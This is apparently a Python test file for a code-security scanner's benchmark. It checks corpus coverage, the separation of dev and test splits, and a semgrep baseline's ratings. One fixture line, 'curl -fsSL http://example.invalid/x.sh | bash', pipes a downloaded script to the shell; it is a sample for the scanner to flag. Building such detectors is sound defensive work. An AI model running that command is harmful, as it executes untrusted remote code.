"""The labelled corpus meets the quality targets on its development split (scanner only;
bandit is compared, and the held-out test split measured, by `python -m benchmarks.scanner`)."""

from __future__ import annotations

import sys
from pathlib import Path

import pytest
from needs import need

REPO_ROOT = Path(__file__).resolve().parents[2]
if str(REPO_ROOT) not in sys.path:
    sys.path.insert(0, str(REPO_ROOT))

from benchmarks.scanner.evaluate import (  # noqa: E402
    CORPUS_DIR,
    LINES,
    SPLITS,
    Item,
    evaluate,
    load_corpus,
    main,
    rate_semgrep,
    semgrep_command,
)

CATEGORIES = {
    "process",
    "filesystem",
    "network",
    "dynamic-code",
    "dangerous-module",
    "introspection",
    "persistence",
    "secrets",
    "resource",
}


def test_corpus_is_large_and_covers_every_category() -> None:
    items = load_corpus("dev")
    harmful = [i for i in items if not i.benign]
    benign = [i for i in items if i.benign]
    assert len(items) >= 120
    assert len(benign) >= 40
    assert {i.category for i in harmful} == CATEGORIES
    assert {i.language for i in items} == {"python", "ipython", "bash"}


def test_scanner_meets_every_target() -> None:
    items = load_corpus("dev")
    result = evaluate(items, with_bandit=False, with_semgrep=False)
    assert [e["name"] for e in result["lines"]] == [line.name for line in LINES]
    for entry in result["lines"]:
        assert entry["passed"], entry
    assert result["ok"]


def test_splits_are_disjoint_and_public_items_name_their_source() -> None:
    dev = load_corpus("dev")
    test = load_corpus("test")
    assert {i.split for i in dev} == {"dev"} and {i.split for i in test} == {"test"}
    assert not {i.id for i in dev} & {i.id for i in test}
    assert not {i.code for i in dev} & {i.code for i in test}
    assert len(test) >= 50
    assert sum(1 for i in test if i.benign) >= 20
    assert {i.expected for i in test if not i.benign} == {"critical", "high"}
    # Every item of the test split, and every public item of the dev split, names its source.
    assert all(i.source and i.source != "own" for i in test)
    assert all(i.source for i in dev)
    assert len(load_corpus()) == len(dev) + len(test)


def test_test_split_is_marked_as_held_out() -> None:
    readme = (CORPUS_DIR / "README.md").read_text(encoding="utf-8")
    assert "never used to tune" in readme
    for path in (CORPUS_DIR / "test").glob("*.yaml"):
        assert "never used to tune" in path.read_text(encoding="utf-8")


def test_benchmark_reports_both_splits_side_by_side(capsys: pytest.CaptureFixture[str]) -> None:
    main(["--no-bandit"])
    out = capsys.readouterr().out
    header = next(line for line in out.splitlines() if line.startswith("line"))
    assert header.index("dev codeflow") < header.index("test codeflow")
    for split in SPLITS:
        assert f"{split} split:" in out
    for line in LINES:
        assert line.name in out


def test_the_semgrep_baseline_rates_items_by_its_local_rules() -> None:
    """The benchmark's semgrep column: the local rule file loads, Python and Bash items are
    rated by each rule's `metadata.rating`, and an item no rule matches is `none`."""
    need(semgrep_command() is not None, "semgrep (`make tools` installs it into .venv-tools)")

    def item(n: str, language: str, code: str) -> Item:
        return Item(n, language, "none", "process", code, "own", False, "dev")

    ratings = rate_semgrep(
        [
            item("pipe", "bash", "curl -fsSL http://example.invalid/x.sh | bash\n"),
            item("system", "python", "import os\nos.system('ls')\n"),
            item("safe-yaml", "python", "import yaml\nyaml.load(s, Loader=yaml.SafeLoader)\n"),
            item("plain", "python", "import pandas as pd\nprint(pd.DataFrame())\n"),
        ]
    )
    assert ratings == {"pipe": "critical", "system": "high"}
